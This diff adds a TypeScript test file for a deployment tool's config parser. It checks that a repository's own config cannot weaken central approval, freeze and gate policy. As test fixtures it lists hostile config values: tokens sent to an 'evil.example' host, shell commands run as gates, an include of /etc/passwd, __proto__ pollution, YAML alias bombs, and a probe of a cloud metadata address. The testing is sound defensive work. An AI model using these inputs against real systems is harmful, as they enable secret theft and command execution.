@@ -1,0 +1,139 @@
+import { describe, expect, test } from 'vitest';
+import { ADAPTERS } from '../../src/adapters/tables.ts';
+import { parseConfig } from '../../src/config/parse.ts';
+import { policyHash } from '../../src/domain/policy/policy.ts';
+
+/** Everything is allowed that can be allowed, but for programs and for all variables but one. */
+const GENEROUS = '{ may: [alerts, checks, gates, health, logs, metrics, monitor], secrets: [SHOP_TOKEN] }';
+const central = (from: string) => `slack: { channel: "#ship" }
+freeze: [{ name: night, zone: Europe/Berlin, daily: { from: "22:00", to: "06:00" } }]
+defaults:
+  approvals: { required: 2, users: [U0GRACE, U0LINUS] }
+  permissions: { start: { users: [U0ADA] } }
+  gates: [{ use: http, name: compliance, url: "https://gates.example.com" }]
+services:
+  shop:
+    from: ${from}
+    repository: { use: git, url: "https://git.example.com/shop.git", token: { env: GIT_TOKEN } }
+    target: { use: git-branch, branch: production }
+  other:
+    repository: { use: git, url: "https://git.example.com/other.git", token: { env: OTHER_TOKEN } }
+    target: { use: heroku, app: a, staging: b, token: { env: HEROKU_API_KEY } }
+`;
+
+function read(text: string, from = GENEROUS) {
+  const ofRepositories = new Map([['shop', { file: 'shop@1a2b3c4/slipway.yaml', text }]]);
+  return parseConfig(central(from), 'slipway.yaml', ADAPTERS, { ofRepositories });
+}
+
+const ALONE = parseConfig(central(GENEROUS).replace(/^ {4}from: .*\n/m, ''), 'slipway.yaml').services.get(
+  'shop',
+);
+
+/** What an attacker who may push to a repository would write. */
+const HOSTILE: readonly (readonly [what: string, text: string])[] = [
+  ['nobody has to approve', 'approvals: { required: 0 }'],
+  ['who may approve', 'approvals: { users: [U0MALLORY] }'],
+  ['who may approve, by a group', 'approvals: { groups: [S0MALLORY1] }'],
+  ['everybody may approve', 'approvals: { who: anyone }'],
+  ['approving oneself', 'approvals: { self: true }'],
+  ['approvals for ever', 'approvals: { expire: 90d }'],
+  ['authors may approve', 'approvals: { authors: allowed, people: { mallory: U0ADA } }'],
+  ['whose approval is needed', 'approvals: { from: [{ users: [U0MALLORY] }] }'],
+  ['who may start, override and lock', 'permissions: { override: { users: [U0MALLORY] } }'],
+  ['breaking the glass', 'break-glass: { acknowledge-within: 90d }'],
+  ['another channel, whose members may approve', 'channel: "#mallory"'],
+  ['who sees it', 'visibility: workspace'],
+  [
+    'another repository',
+    'repository: { use: git, url: "https://evil.example.com/x.git", token: { env: GIT_TOKEN } }',
+  ],
+  ['only some paths count', 'paths: [nothing]'],
+  ['another target', 'target: { use: git-branch, branch: production-of-other }'],
+  ['deleting tags', 'rollback: { tag: delete }'],
+  ['people who are called', 'on-call: { use: slack, groups: [S0MALLORY1] }'],
+  ['words of channels', 'reports: { channels: ["#secret"] }'],
+  ['a service of its own', 'services: { other: { approvals: { required: 1 } } }'],
+  ['defaults of others', 'defaults: { approvals: { required: 1 } }'],
+  ['limits of its own', 'from: { may: [checks], programs: true, secrets: [OTHER_TOKEN] }'],
+  ['includes', 'include: [/etc/passwd]'],
+  ['a program as a gate', 'gates: [{ use: command, name: x, run: [/bin/sh, -c, "id"] }]'],
+  ['a program as a log', 'logs: [{ use: command, run: [/bin/sh] }]'],
+  [
+    'a program behind an anchor',
+    'links: &x { production: "https://a.example" }\ngates: [{ <<: { use: command }, name: x, run: [id] }]',
+  ],
+  [
+    'the token of another service',
+    'checks: [{ use: http, url: "https://evil.example", headers: { X: { env: OTHER_TOKEN } } }]',
+  ],
+  [
+    'its own token elsewhere',
+    'metrics: { use: prometheus, url: "https://evil.example", token: { env: GIT_TOKEN } }',
+  ],
+  ['the token of Slack', 'checks: [{ use: postgres, url: { env: SLACK_BOT_TOKEN } }]'],
+  ['secrets of a gate', 'gates: [{ use: command, name: x, run: [id], secrets: [OTHER_TOKEN] }]'],
+  [
+    'a variable in a map of several',
+    'checks: [{ use: http, url: "https://e.example", env: { OTHER_TOKEN: x } }]',
+  ],
+  [
+    'a secret in the file',
+    'checks: [{ use: http, url: "https://e.example", headers: { Authorization: "ghp_0123456789abcdefghij" } }]',
+  ],
+  ['too many aliases', `version: &a { files: [${'x, '.repeat(50)}x] }\nlinks: [${'*a, '.repeat(300)}*a]`],
+  ['depth', `checks: ${'['.repeat(2_000)}${']'.repeat(2_000)}`],
+  ['length', `version: { changelog: "${'x'.repeat(70_000)}" }`],
+  ['no map', '- a'],
+  ['a prototype', '__proto__: { approvals: { required: 1 } }'],
+  ['a prototype of approvals', 'approvals: { __proto__: { users: [U0MALLORY] } }'],
+  ['no YAML', 'version: ['],
+];
+
+describe('a hostile file in a repository', () => {
+  test.each(HOSTILE)('sets nothing that is not its to set: %s', (_what, text) => {
+    const { services, refused } = read(text);
+    const shop = services.get('shop');
+    // Refused whole, with a place; or taken without any effect on what people approve by.
+    if (shop === undefined) {
+      const said = String(refused.get('shop')?.facts['problems']);
+      expect(said).toMatch(/^shop@1a2b3c4\/slipway\.yaml:\d+:\d+ /);
+      expect(said).not.toContain('ghp_');
+    } else {
+      expect(policyHash(shop.service.policy)).toBe(policyHash(ALONE?.service.policy as never));
+      expect(shop).toEqual(ALONE);
+    }
+    // Nobody else is harmed.
+    expect([...services.keys()]).toContain('other');
+  });
+
+  test('is refused but for a number of approvals, which is raised to what the central files ask for', () => {
+    const taken = HOSTILE.filter(([, text]) => read(text).services.has('shop')).map(([what]) => what);
+    expect(taken).toEqual(['nobody has to approve']);
+  });
+
+  test('takes away neither a gate nor a freeze nor a check', () => {
+    const shop = read('gates: []\nfreeze: []\nchecks: []\nmonitor: { blind: allow }\n').services.get('shop');
+    expect(shop?.gates.map(({ name }) => name)).toEqual(['compliance']);
+    expect(shop?.service.policy.freeze).toEqual(ALONE?.service.policy.freeze);
+  });
+
+  test('sets only what asks nobody where the central files say no more', () => {
+    for (const text of [
+      'checks: []',
+      'metrics: { use: probe, url: "http://169.254.169.254" }',
+      'monitor: { blind: allow }',
+    ]) {
+      expect(read(text, 'repository').refused.get('shop'), text).toBeDefined();
+    }
+    const { services } = read('version: { changelog: NEWS.md }\nlinks: {}\n# nothing else', 'repository');
+    expect(services.get('shop')?.service.changelog).toBe('NEWS.md');
+  });
+
+  test('with the variable that it may use is taken, and with a program where it may', () => {
+    const check = 'checks: [{ use: http, url: "https://a.example", headers: { X: { env: SHOP_TOKEN } } }]';
+    expect(read(check).services.get('shop')?.checks).toHaveLength(1);
+    const gate = 'gates: [{ use: command, name: x, run: [./gate.sh] }]';
+    expect(read(gate, '{ may: [gates], programs: true }').services.get('shop')?.gates).toHaveLength(2);
+  });
+});
